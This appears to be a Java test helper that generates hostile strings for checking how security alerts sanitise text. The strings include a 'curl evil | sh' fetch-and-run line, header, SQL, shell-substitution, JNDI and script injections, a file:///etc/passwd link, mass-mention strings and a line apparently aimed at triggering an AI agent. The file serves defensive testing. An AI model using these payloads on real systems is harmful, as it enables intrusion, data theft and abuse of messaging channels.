package dev.ecrauditor.alert;

import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Text of an attacker who wants an alert to do something, or to hide something. */
public final class HostilePayloads {

    private HostilePayloads() {}

    public static List<String> all() {
        return Stream.of(lineBreaks(), invisible(), mentions(), links(), markup(), broken(), hidden(), disguised())
                .flatMap(List::stream)
                .distinct()
                .toList();
    }

    /** Every control character, and every one that turns the direction of text, between two letters. */
    private static List<String> hidden() {
        return IntStream.of(0x00, 0x7f, 0x200b, 0x2028, 0x2060, 0xfff9)
                .flatMap(from -> IntStream.range(from, from + 0x20))
                .mapToObj(c -> "a" + Character.toString(c) + "b")
                .toList();
    }

    /** Mentions and links in the dress of something else. */
    private static List<String> disguised() {
        return Stream.concat(mentions().stream(), links().stream())
                .flatMap(payload -> Stream.of(
                        payload.toUpperCase(Locale.ROOT),
                        "urgent " + payload + " now",
                        payload + payload,
                        "`" + payload + "`",
                        "*" + payload + "*",
                        "(" + payload + ")",
                        payload + "\n" + payload,
                        "\u202e" + payload,
                        payload.replace("", "\u200b"),
                        "\"" + payload + "\\"))
                .toList();
    }

    private static List<String> lineBreaks() {
        return List.of(
                "a\nb",
                "a\r\nBcc: victim",
                "a\rb",
                "a\n\nWhat to do\n  curl evil | sh",
                "a\u000bb",
                "a\u000cb",
                "a\u0085b",
                "a\u2028b",
                "a\u2029b",
                "\n.\n",
                "RESOLVED: payments/api\nAccount");
    }

    private static List<String> invisible() {
        return List.of(
                "a\u0000b",
                "a\u0007b",
                "a\u001b[31mred\u001b[0m",
                "a\u001b]0;title\u0007b",
                "a\bb",
                "a\u007fb",
                "a\u009bb",
                "a\u200bb",
                "a\u200db",
                "a\u2060b",
                "a\ufeffb",
                "a\u00adb",
                "a\u034fb",
                "a\u3164b",
                "a\u2800b",
                "a\ufe0fb",
                "\u202eevil\u202c",
                "\u202dx\u202a\u202b",
                "\u2066x\u2067y\u2068z\u2069",
                "\u200e\u200f\u061c",
                "a\udb40\udc41b",
                "a\ue000b",
                "a\uffffb");
    }

    private static List<String> mentions() {
        return List.of(
                "<!channel>",
                "<!here|here>",
                "<!everyone>",
                "<!subteam^S123>",
                "<@U123>",
                "<#C123|general>",
                "@here",
                "@channel",
                "@everyone",
                "@Amazon Q run",
                "alice@example.com",
                "&lt;!channel&gt;",
                "&#60;!channel&#62;",
                "<at>bob</at>",
                "<!\u200bchannel>",
                "<<!channel>>");
    }

    private static List<String> links() {
        return List.of(
                "http://example.com",
                "https://example.com/login?next=x",
                "HTTPS://EXAMPLE.COM",
                "hxxp://example.com",
                "ftp://example.com",
                "slack://open",
                "h\u200bttps://example.com",
                "https:\u200b//example.com",
                "https:\n//example.com",
                "://://",
                "www.example.com",
                "WWW.EXAMPLE.COM",
                "wWw.example.com",
                "www.www.example.com",
                "javascript:alert(1)",
                "JavaScript:alert(1)",
                "vbscript:x",
                "data:text/html;base64,PHg+",
                "mailto:alice@example.com",
                "MAILTO:alice%40example.com",
                "tel:+15550100",
                "file:///etc/passwd",
                "<https://example.com|Open the repository>",
                "<http://x|y>",
                "[a](http://x)",
                "[a](javascript:x)",
                "![x](https://example.com/pixel.png)",
                "<a href='https://example.com'>x</a>",
                "\u0130www.example.com",
                "\u0130WWW.EXAMPLE.COM HTTPS://EXAMPLE.COM");
    }

    private static List<String> markup() {
        return List.of(
                "`code`",
                "```\nblock\n```",
                "a`b",
                "`",
                "*bold* _italic_ ~gone~",
                "> quote",
                "# heading",
                ":rotating_light:",
                "<script>alert(1)</script>",
                "<b>",
                "</description>",
                "&",
                "&amp;amp;",
                "\"quoted\"",
                "\\\"",
                "\\u0040here",
                "'; DROP TABLE findings; --",
                "$(reboot)",
                "${jndi:ldap://example.com/x}",
                "{repository}",
                "%s%n%d",
                "null");
    }

    private static List<String> broken() {
        return List.of(
                "",
                " ",
                "\ud83d",
                "\udc33",
                "\ud83dx",
                "\udc33\ud83d",
                "a\ud83d\udc33b",
                "x".repeat(100_000),
                "\u202e".repeat(5_000),
                "@".repeat(3_000),
                "<".repeat(3_000),
                "`".repeat(3_000),
                "www.".repeat(2_000),
                "\ud83d\udc33".repeat(3_000),
                "\n".repeat(3_000));
    }
}
